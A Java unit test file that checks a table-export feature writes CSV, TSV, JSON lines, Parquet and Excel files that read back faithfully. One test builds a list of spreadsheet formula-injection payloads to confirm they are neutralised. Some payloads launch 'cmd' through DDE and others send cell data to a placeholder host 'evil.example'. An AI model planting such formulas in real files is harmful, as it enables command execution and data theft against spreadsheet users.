package dev.pollux.results.export;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.hardwood.InputFile;
import dev.hardwood.reader.ParquetFileReader;
import dev.hardwood.reader.RowReader;
import dev.pollux.cloud.CloudException;
import dev.pollux.cloud.RowPages;
import dev.pollux.domain.Location;
import dev.pollux.domain.table.TableInfo;
import dev.pollux.domain.table.TableRef;
import dev.pollux.domain.table.TableSchema;
import dev.pollux.domain.value.Field;
import dev.pollux.domain.value.FieldType;
import dev.pollux.domain.value.Page;
import dev.pollux.domain.value.Row;
import dev.pollux.domain.value.Value;
import dev.pollux.testing.FakeCatalog;
import dev.pollux.testing.FakeRows;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.DriverManager;
import java.sql.ResultSet;
import java.time.Instant;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.List;
import java.util.stream.Stream;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/// What was written is read back by readers of another origin: CSV by DuckDB, JSON by Jackson,
/// Parquet by Hardwood, workbooks by an XML parser.
class FileExportTest {
  private static final TableRef TABLE = new TableRef("p1", "d", "t");
  private static final Field[] COLUMNS = {
    Field.of("text", FieldType.STRING),
    Field.of("whole", FieldType.INT64),
    Field.of("real", FieldType.FLOAT64),
    Field.of("exact", FieldType.NUMERIC),
    Field.of("larger", FieldType.BIGNUMERIC),
    Field.of("yes", FieldType.BOOL),
    Field.of("day", FieldType.DATE),
    Field.of("moment", FieldType.TIMESTAMP),
    Field.of("bytes", FieldType.BYTES),
    Field.of("json", FieldType.JSON),
    new Field("list", FieldType.INT64, Field.Mode.REPEATED, List.of(), ""),
    new Field(
        "group",
        FieldType.STRUCT,
        Field.Mode.NULLABLE,
        List.of(Field.of("a", FieldType.STRING), Field.of("n", FieldType.NUMERIC)),
        "")
  };
  private static final String BIG = "123456789012345678901234567890.123456789";

  /// One of usual values, one at the ends of their types, one of NULLs, and odd text.
  private static final List<Row> ROWS =
      List.of(
          row(
              "a, \"b\"\nc\td; é 漢 😀",
              "1",
              "1.5",
              "0.1",
              "0.1",
              "true",
              "2024-02-29",
              "2024-02-29 12:30:00.123456+00",
              base64("bytes"),
              "{\"a\": [1, 2.50]}"),
          row(
              "",
              "9223372036854775807",
              "-1.7976931348623157E308",
              "99999999999999999999999999999.999999999",
              BIG,
              "false",
              "0001-01-01",
              "9999-12-31 23:59:59.999999+00",
              base64("\0\1ÿ"),
              "123456789012345678901234567890.5"),
          new Row(java.util.Collections.nCopies(COLUMNS.length, Value.NULL)),
          row(
              "NULL",
              "-9223372036854775808",
              "0.1",
              "-0.000000001",
              "-1",
              "true",
              "1969-12-31",
              "1969-12-31 23:59:59.999999+00",
              "",
              "null"));

  @TempDir Path folder;
  private final FakeRows rows = new FakeRows();
  private final TableInfo table =
      new FakeCatalog("p1")
          .dataset("d", Location.US_CENTRAL1)
          .table("d", "t", 0, COLUMNS)
          .tables
          .get(TABLE);

  private static Row row(String... scalars) {
    List<Value> values =
        new ArrayList<>(Stream.of(scalars).map(text -> (Value) new Value.Scalar(text)).toList());
    values.add(new Value.Array(List.of(new Value.Scalar("7"), new Value.Scalar("8"))));
    values.add(new Value.Struct(List.of(new Value.Scalar("x\ny"), new Value.Scalar(BIG))));
    return new Row(values);
  }

  private static String base64(String text) {
    return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
  }

  private Path write(ExportFormat format, boolean exact) throws Exception {
    Path file = folder.resolve("out." + format.ending());
    new FileExport(rows)
        .write(
            table,
            ExportContent.whole(table.schema()),
            new FileExport.Target(file, format, exact),
            _ -> {});
    return file;
  }

  /// As text: what a value is on the wire.
  private static List<List<String>> texts(List<Row> rows) {
    return rows.stream()
        .map(row -> {
          List<String> texts = new ArrayList<>();
          for (int i = 0; i < COLUMNS.length; i++) {
            Value value = row.values().get(i);
            texts.add(value instanceof Value.Null ? null : ValueJson.text(COLUMNS[i], value));
          }
          return texts;
        })
        .toList();
  }

  @ParameterizedTest
  @EnumSource(names = {"CSV", "TSV"})
  void separatedTextComesBack(ExportFormat format) throws Exception {
    rows.tables.put(TABLE, ROWS);
    Path file = write(format, true);
    List<List<String>> read = new ArrayList<>();
    try (var duck = DriverManager.getConnection("jdbc:duckdb:");
        var statement = duck.createStatement();
        ResultSet lines =
            statement.executeQuery(
                "FROM read_csv('%s', header=true, all_varchar=true, delim='%s', quote='\"',"
                        .formatted(file, format == ExportFormat.CSV ? "," : "\t")
                    + " escape='\"', allow_quoted_nulls=false)")) {
      while (lines.next()) {
        List<String> line = new ArrayList<>();
        for (int i = 1; i <= COLUMNS.length; i++) {
          line.add(lines.getString(i));
        }
        read.add(line);
      }
    }
    assertThat(read).isEqualTo(texts(ROWS));
  }

  @Test
  void jsonLinesComeBack() throws Exception {
    rows.tables.put(TABLE, ROWS);
    List<String> lines = Files.readAllLines(write(ExportFormat.JSONL, false));
    assertThat(lines).hasSize(ROWS.size());
    JsonMapper json =
        JsonMapper.builder()
            .enable(tools.jackson.databind.DeserializationFeature.USE_BIG_DECIMAL_FOR_FLOATS)
            .build();
    JsonNode first = json.readTree(lines.get(0));
    assertThat(first.path("text").asString()).isEqualTo("a, \"b\"\nc\td; é 漢 😀");
    assertThat(first.path("json").path("a").path(1).decimalValue().toString()).isEqualTo("2.50");
    assertThat(first.path("list").path(1).asInt()).isEqualTo(8);
    assertThat(first.path("group").path("a").asString()).isEqualTo("x\ny");
    assertThat(first.path("group").path("n").decimalValue().toPlainString()).isEqualTo(BIG);
    JsonNode ends = json.readTree(lines.get(1));
    assertThat(ends.path("whole").asLong()).isEqualTo(Long.MAX_VALUE);
    assertThat(ends.path("larger").decimalValue().toPlainString()).isEqualTo(BIG);
    assertThat(ends.path("yes").asBoolean(true)).isFalse();
    assertThat(json.readTree(lines.get(2)).valueStream()).allMatch(JsonNode::isNull);
  }

  @Test
  void parquetComesBackWithItsTypes() throws Exception {
    rows.tables.put(TABLE, ROWS);
    try (ParquetFileReader file =
            ParquetFileReader.open(InputFile.of(write(ExportFormat.PARQUET, false)));
        RowReader read = file.rowReader()) {
      for (Row row : ROWS) {
        assertThat(read.hasNext()).isTrue();
        read.next();
        if (row.values().getFirst() instanceof Value.Null) {
          for (int i = 0; i < COLUMNS.length; i++) {
            assertThat(read.isNull(i)).isTrue();
          }
          continue;
        }
        List<String> texts = texts(List.of(row)).getFirst();
        assertThat(read.getString(0)).isEqualTo(texts.get(0));
        assertThat(read.getLong(1)).isEqualTo(Long.parseLong(texts.get(1)));
        assertThat(read.getDouble(2)).isEqualTo(Double.parseDouble(texts.get(2)));
        assertThat(read.getDecimal(3)).isEqualByComparingTo(texts.get(3));
        assertThat(read.getString(4)).isEqualTo(texts.get(4));
        assertThat(read.getBoolean(5)).isEqualTo(Boolean.parseBoolean(texts.get(5)));
        assertThat(read.getDate(6)).isEqualTo(LocalDate.parse(texts.get(6)));
        assertThat(read.getTimestamp(7))
            .isEqualTo(Instant.parse(texts.get(7).replace(' ', 'T').replace("+00", "Z")));
        assertThat(read.getBinary(8)).isEqualTo(Base64.getDecoder().decode(texts.get(8)));
        assertThat(read.getString(9)).isEqualTo(texts.get(9));
        assertThat(read.getString(10)).isEqualTo("[7,8]");
        assertThat(read.getString(11)).isEqualTo(texts.get(11));
      }
      assertThat(read.hasNext()).isFalse();
    }
    assertThat(folder.toFile().list()).containsExactly("out.parquet");
  }

  private static List<List<Object>> sheet(Path file) throws IOException {
    try (ReadableWorkbook book = new ReadableWorkbook(Files.newInputStream(file));
        var lines = book.getFirstSheet().openStream()) {
      return lines
          .map(line ->
              line.stream()
                  .map(cell -> {
                    assertThat(cell == null ? null : cell.getFormula()).isNull();
                    return cell == null || cell.getType() == CellType.EMPTY
                        ? null
                        : cell.getValue();
                  })
                  .toList())
          .toList();
    }
  }

  @Test
  void workbooksKeepNumbersThatSpreadsheetsKeep() throws Exception {
    rows.tables.put(TABLE, ROWS);
    List<List<Object>> lines = sheet(write(ExportFormat.XLSX, false));
    assertThat(lines.get(0))
        .containsExactlyElementsOf(Stream.of(COLUMNS).map(Field::name).toList());
    assertThat(lines.get(1).get(0)).isEqualTo("a, \"b\"\nc\td; é 漢 😀");
    assertThat(lines.get(1).get(1)).hasToString("1.0");
    assertThat(lines.get(1).get(5)).isEqualTo(true);
    assertThat(lines.get(2).get(1)).isEqualTo("9223372036854775807");
    assertThat(lines.get(2).get(4)).isEqualTo(BIG);
  }

  @Test
  void whatAWorkbookCannotHoldIsWrittenSoThatItCanBeRead() throws Exception {
    String odd = "nul \0, escape \u001b, lone \ud800, already _x0041_ and _x";
    rows.tables.put(TABLE, List.of(texted(odd), texted("z".repeat(40_000))));
    Path file = folder.resolve("odd.xlsx");
    FileExport.Written written =
        new FileExport(rows)
            .write(
                table,
                ExportContent.whole(table.schema()).choose(List.of("TEXT")),
                new FileExport.Target(file, ExportFormat.XLSX, false),
                _ -> {});
    assertThat(sheet(file).get(1).getFirst())
        .isEqualTo("nul _x0000_, escape _x001B_, lone _xD800_, already _x005F_x0041_ and _x");
    assertThat((String) sheet(file).get(2).getFirst()).hasSize(XlsxWriter.MOST_CHARACTERS);
    assertThat(written).isEqualTo(new FileExport.Written(2, 1));
  }

  private static Row texted(String text) {
    List<Value> values = new ArrayList<>(java.util.Collections.nCopies(COLUMNS.length, Value.NULL));
    values.set(0, new Value.Scalar(text));
    return new Row(values);
  }

  static Stream<String> formulas() {
    List<String> bodies =
        List.of(
            "1+1",
            "cmd|' /C calc'!A0",
            "HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
            "WEBSERVICE(\"http://evil.example\")",
            "DDE(\"cmd\";\"/C calc\";\"x\")");
    return Stream.of("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠")
        .flatMap(start -> bodies.stream().map(body -> start + body));
  }

  /// Nothing that stands in a table becomes a formula in a spreadsheet, its own names included.
  @Test
  void noTextIsAFormula() throws Exception {
    List<String> payloads = formulas().toList();
    assertThat(payloads).hasSizeGreaterThan(60);
    rows.tables.put(TABLE, payloads.stream().map(FileExportTest::texted).toList());
    String csv = Files.readString(write(ExportFormat.CSV, false));
    String tsv = Files.readString(write(ExportFormat.TSV, false));
    for (String payload : payloads) {
      String cell = '"' + payload.replace("\"", "\"\"") + '"';
      assertThat(csv).doesNotContain("\n" + cell).contains("\n\"'" + cell.substring(1));
      assertThat(tsv).doesNotContain("\n" + cell).contains("\n\"'" + cell.substring(1));
    }
    // An inline string is no formula, whatever it says.
    assertThat(sheet(write(ExportFormat.XLSX, false))).hasSize(payloads.size() + 1);
  }

  @Test
  void numbersBelowZeroStayNumbers() throws Exception {
    rows.tables.put(TABLE, ROWS);
    assertThat(Files.readString(write(ExportFormat.CSV, false)))
        .contains("\"-9223372036854775808\"")
        .doesNotContain("'-9223372036854775808");
  }

  /// A file that was there stays, and nothing lies beside it.
  @ParameterizedTest
  @EnumSource
  void aFailureLeavesWhatWasThere(ExportFormat format) throws Exception {
    Path file = folder.resolve("out." + format.ending());
    Files.writeString(file, "what was there");
    rows.tables.put(TABLE, java.util.Collections.nCopies(5_000, ROWS.getFirst()));
    CloudException late = new CloudException.Unavailable("gone", "", null);
    FakeRows failing = rows;
    dev.pollux.cloud.Rows breaks =
        new dev.pollux.cloud.Rows() {
          @Override
          public Page page(TableRef ref, TableSchema schema, long start, int size)
              throws CloudException {
            if (start >= RowPages.FIRST) {
              throw late;
            }
            return failing.page(ref, schema, start, size);
          }
        };
    assertThatThrownBy(() ->
            new FileExport(breaks)
                .write(
                    table,
                    ExportContent.whole(table.schema()),
                    new FileExport.Target(file, format, false),
                    _ -> {}))
        .isSameAs(late);
    assertThat(file).hasContent("what was there");
    assertThat(folder.toFile().list()).containsExactly(file.getFileName().toString());
  }

  @ParameterizedTest
  @EnumSource
  void whoStopsItFindsNoFile(ExportFormat format) {
    rows.tables.put(TABLE, java.util.Collections.nCopies(5_000, ROWS.getFirst()));
    assertThatThrownBy(() ->
            new FileExport(rows)
                .write(
                    table,
                    ExportContent.whole(table.schema()),
                    new FileExport.Target(folder.resolve("out." + format.ending()), format, false),
                    read -> {
                      if (read >= 4_000) {
                        Thread.currentThread().interrupt();
                      }
                    }))
        .isInstanceOf(InterruptedException.class);
    assertThat(folder.toFile().list()).isEmpty();
  }

  @ParameterizedTest
  @EnumSource
  void aFolderThatIsNotThereIsSaid(ExportFormat format) {
    rows.tables.put(TABLE, ROWS);
    Path nowhere = folder.resolve("nope").resolve("out");
    assertThatThrownBy(() ->
            new FileExport(rows)
                .write(
                    table,
                    ExportContent.whole(table.schema()),
                    new FileExport.Target(nowhere, format, false),
                    _ -> {}))
        .isInstanceOf(IOException.class);
    assertThat(folder.toFile().list()).isEmpty();
  }

  /// It is said before a row is read.
  @ParameterizedTest
  @EnumSource
  void aFolderOfThatNameIsSaid(ExportFormat format) {
    FileExport.Target target = new FileExport.Target(folder, format, false);
    assertThatThrownBy(() ->
            FileExport.write(
                table.schema().fields(),
                target,
                _ -> {
                  throw new IllegalStateException("rows were read");
                }))
        .isInstanceOfSatisfying(
            IOException.class,
            e -> assertThat(ExportFailure.of(folder, e).words()).isEqualTo("export.not-a-file"));
    assertThat(folder.toFile().list()).isEmpty();
  }

  @Test
  void columnsAreChosenAndOrdered() throws Exception {
    rows.tables.put(TABLE, List.of(ROWS.get(3)));
    Path file = folder.resolve("some.csv");
    ExportContent all = ExportContent.whole(table.schema());
    new FileExport(rows)
        .write(
            table,
            all.choose(List.of("whole", " Text ")),
            new FileExport.Target(file, ExportFormat.CSV, false),
            _ -> {});
    assertThat(file)
        .content()
        .isEqualTo("\"whole\",\"text\"\r\n\"-9223372036854775808\",\"NULL\"\r\n");
    assertThatThrownBy(() -> all.choose(List.of("whole", "wole")))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageStartingWith("wole: text, whole, real");
  }

  @Test
  void namesSayTheForm() {
    assertThat(
            Stream.of("a.csv", "A.TSV", "b.jsonl", "b.ndjson", "c.parquet", "d.XLSX", "e", "f.doc")
                .map(Path::of)
                .map(ExportFormat::of)
                .map(format -> format.map(Enum::name).orElse("-")))
        .isEqualTo(Arrays.asList("CSV", "TSV", "JSONL", "JSONL", "PARQUET", "XLSX", "-", "-"));
  }
}
